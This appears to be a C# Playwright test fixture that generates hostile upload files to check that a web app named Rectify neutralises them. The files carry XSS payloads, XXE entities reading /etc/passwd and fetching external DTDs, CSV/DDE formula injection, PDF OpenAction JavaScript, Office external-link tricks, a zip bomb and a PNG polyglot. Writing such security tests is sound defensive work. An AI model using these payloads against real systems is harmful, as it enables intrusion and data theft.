using System.Globalization;
using System.IO.Compression;
using System.Text;
using Microsoft.Playwright;

namespace Rectify.Browser.Tests.Pages;

/// <summary>Files that try to run something, to reach somewhere, or to be more than they are. Whatever runs says so in the window; whatever reaches out knocks at <paramref name="away"/>.</summary>
/// <param name="away">An address of somebody else's server.</param>
internal sealed class MaliciousFiles(string away)
{
    /// <summary>What a script that runs leaves behind.</summary>
    public const string Mark = "ranFromAFile";

    private const string WordSpace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private const string OfficeSpace = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string PackageSpace = "http://schemas.openxmlformats.org/package/2006/relationships";

    private string Script => $"window.{Mark}=(window.{Mark}||0)+1;alert('ran');fetch('{away}/script');new Image().src='{away}/image'";

    public IReadOnlyList<FilePayload> All =>
    [
        Text("脚本.html", $"<!doctype html><html><head><script>{Script}</script><link rel=stylesheet href='{away}/css'><meta http-equiv=refresh content='0;url={away}/refresh'></head><body onload=\"{Script}\"><img src='{away}/img' onerror=\"{Script}\"><iframe src='{away}/frame'></iframe><a href=\"javascript:{Script}\">点这里</a>佐证正文</body></html>"),
        Text("改名.pdf", $"<html><body><script>{Script}</script><img src={away}/renamed>佐证正文</body></html>"),
        Text("图形.svg", $"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY file SYSTEM \"file:///etc/passwd\"><!ENTITY net SYSTEM \"{away}/entity\">]><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{Script}\"><script>{Script}</script><image href=\"{away}/svg\"/><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:{Script}\"/></foreignObject><text>&file;&net;佐证正文</text></svg>"),
        Text("说明.txt", $"佐证正文\n<script>{Script}</script>\n<img src=x onerror=\"{Script}\">\n{{{{constructor.constructor('{Mark}')()}}}}\njavascript:{Script}\n"),
        Text("清单.csv", $"事项,内容\n=WEBSERVICE(\"{away}/csv\"),<img src=x onerror={Mark}=1>\n@SUM(1+1)*cmd|' /C calc'!A0,佐证正文\n"),
        Text("&lt;img src=x onerror=window." + Mark + "=1&gt;' onfocus='" + Mark + ".txt", "佐证正文\n"),
        new() { Name = "脚本.pdf", MimeType = "application/pdf", Buffer = Pdf() },
        Package("外链.docx", Document($"""<w:p><w:hyperlink r:id="rJs"><w:r><w:t>佐证正文</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "{away}/field" \d</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:t>&lt;script&gt;{Mark}=1&lt;/script&gt;</w:t></w:r></w:p><w:altChunk r:id="rHtml"/>"""),
            ("word/_rels/document.xml.rels", $"""<Relationships xmlns="{PackageSpace}"><Relationship Id="rJs" Type="{OfficeSpace}/hyperlink" Target="javascript:{Mark}=1" TargetMode="External"/><Relationship Id="rImg" Type="{OfficeSpace}/image" Target="{away}/docx-image" TargetMode="External"/><Relationship Id="rTpl" Type="{OfficeSpace}/attachedTemplate" Target="{away}/template.dotm" TargetMode="External"/><Relationship Id="rHtml" Type="{OfficeSpace}/aFChunk" Target="/word/chunk.html"/></Relationships>"""),
            ("word/chunk.html", $"<html><script>{Script}</script></html>")),
        Package("实体.docx", $"""<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "{away}/xxe"><!ENTITY % ext SYSTEM "{away}/dtd">%ext;]><w:document xmlns:w="{WordSpace}"><w:body><w:p><w:r><w:t>&file;&net;</w:t></w:r></w:p></w:body></w:document>"""),
        Package("炸弹.docx", Document($"<w:p><w:r><w:t>{new string('0', 64 * 1024 * 1024)}</w:t></w:r></w:p>")),
        Workbook(),
        new() { Name = "夹带.png", MimeType = "image/png", Buffer = [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A, .. Encoding.UTF8.GetBytes($"<html><script>{Script}</script></html>")] },
    ];

    private static FilePayload Text(string name, string text) => new() { Name = name, MimeType = "text/html", Buffer = Encoding.UTF8.GetBytes(text) };

    private static string Document(string body) => $"""<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WordSpace}" xmlns:r="{OfficeSpace}"><w:body>{body}</w:body></w:document>""";

    private static FilePayload Package(string name, string document, params (string Path, string Text)[] parts) => Zip(name,
    [
        ("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""),
        ("_rels/.rels", $"""<Relationships xmlns="{PackageSpace}"><Relationship Id="r1" Type="{OfficeSpace}/officeDocument" Target="word/document.xml"/></Relationships>"""),
        ("word/document.xml", document), .. parts,
    ]);

    private FilePayload Workbook() => Zip("公式.xlsx",
    [
        ("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>"""),
        ("_rels/.rels", $"""<Relationships xmlns="{PackageSpace}"><Relationship Id="r1" Type="{OfficeSpace}/officeDocument" Target="xl/workbook.xml"/></Relationships>"""),
        ("xl/workbook.xml", $"""<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OfficeSpace}"><sheets><sheet name="&lt;b onclick={Mark}&gt;" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>"""),
        ("xl/_rels/workbook.xml.rels", $"""<Relationships xmlns="{PackageSpace}"><Relationship Id="r1" Type="{OfficeSpace}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{OfficeSpace}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>"""),
        ("xl/externalLinks/externalLink1.xml", $"""<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OfficeSpace}"><externalBook r:id="r1"/></externalLink>"""),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", $"""<Relationships xmlns="{PackageSpace}"><Relationship Id="r1" Type="{OfficeSpace}/externalLinkPath" Target="{away}/book.xlsx" TargetMode="External"/></Relationships>"""),
        ("xl/worksheets/sheet1.xml", $"""<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OfficeSpace}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>佐证正文</t></is></c><c r="B1" t="str"><f>WEBSERVICE("{away}/formula")</f><v>&lt;script&gt;{Mark}=1&lt;/script&gt;</v></c><c r="C1" t="str"><f>HYPERLINK("javascript:{Mark}=1","点这里")</f><v>点这里</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rJs"/></hyperlinks></worksheet>"""),
        ("xl/worksheets/_rels/sheet1.xml.rels", $"""<Relationships xmlns="{PackageSpace}"><Relationship Id="rJs" Type="{OfficeSpace}/hyperlink" Target="javascript:{Mark}=1" TargetMode="External"/></Relationships>"""),
    ]);

    private static FilePayload Zip(string name, IReadOnlyList<(string Path, string Text)> parts)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (path, text) in parts)
            {
                using var part = new StreamWriter(zip.CreateEntry(path, CompressionLevel.Fastest).Open(), new UTF8Encoding(false));
                part.Write(text);
            }
        return new() { Name = name, MimeType = "application/zip", Buffer = bytes.ToArray() };
    }

    /// <summary>One page of text that runs a script when it is opened, printed or clicked at, and fetches a file from elsewhere.</summary>
    private byte[] Pdf()
    {
        const string Content = "BT /F1 24 Tf 72 700 Td (Evidence text) Tj ET";
        var js = $"({Script.Replace("(", "\\(", StringComparison.Ordinal).Replace(")", "\\)", StringComparison.Ordinal)})";
        string[] objects =
        [
            $"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS {js} >> /AA << /WC << /S /JavaScript /JS {js} >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS {js} >>] >> >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /URI /URI ({away}/pdf-open) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:{Mark}=1) >> >>] >>",
            $"<< /Length {Content.Length} >>\nstream\n{Content}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ];
        var pdf = new StringBuilder("%PDF-1.7\n");
        List<int> places = [];
        for (var i = 0; i < objects.Length; i++)
        {
            places.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var start = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n").AppendJoin("", places.Select(place => $"{place:0000000000} 00000 n \n"))
            .Append(CultureInfo.InvariantCulture, $"trailer << /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(pdf.ToString());
    }
}
